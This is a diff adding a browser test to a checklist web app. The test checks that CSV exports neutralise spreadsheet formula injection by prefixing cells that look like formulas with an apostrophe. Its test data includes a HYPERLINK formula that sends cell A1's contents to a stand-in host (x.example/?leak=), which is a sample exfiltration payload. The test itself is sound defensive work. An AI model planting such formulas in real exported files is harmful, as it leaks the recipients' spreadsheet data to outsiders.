@@ -156,6 +156,30 @@ def test_download_as_csv(visit, internal_site):
     assert rows[1:] == [[i["text"], i["owner"], i["due"], "yes" if n == 2 else "no"] for n, i in enumerate(items)]
 
 
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(visit, internal_site):
+    """Item text that starts like a formula (written by a careless or hostile author) must not
+    run when the file is opened in Excel or LibreOffice Calc."""
+    visitor = visit(internal_site)
+    items = _items(visitor.open(PAGE))
+    formulas = ['=HYPERLINK("https://x.example/?leak="&A1,"open")', "+1+1", "-2+3", "@SUM(1)"]
+
+    def plant(route):
+        body = route.fetch().text()
+        for item, formula in zip(items, formulas):
+            assert item["text"] in body
+            body = body.replace(item["text"], formula.replace('"', "&quot;").replace("&A1", "&amp;A1"), 1)
+        route.fulfill(body=body, content_type="text/html; charset=utf-8")
+
+    visitor.page.route(f"**/{PAGE}", plant)
+    page = visitor.open(PAGE)
+    assert [item["text"] for item in _items(page)][:len(formulas)] == formulas
+    with page.expect_download() as download:
+        page.click(f"#checklist-{LIST} [data-pb-action=csv]")
+    rows = list(csv.reader(io.StringIO(open(download.value.path(), encoding="utf-8", newline="").read())))
+    assert [row[0] for row in rows[1:len(formulas) + 1]] == ["'" + formula for formula in formulas]
+    assert rows[len(formulas) + 1][0] == items[len(formulas)]["text"], "ordinary text is left alone"
+
+
 def test_without_javascript_the_checklist_still_reads_with_owners_and_timing(visit, internal_site):
     page = visit(internal_site, java_script_enabled=False).open(PAGE)
     checklist = page.locator(f"#checklist-{LIST}")
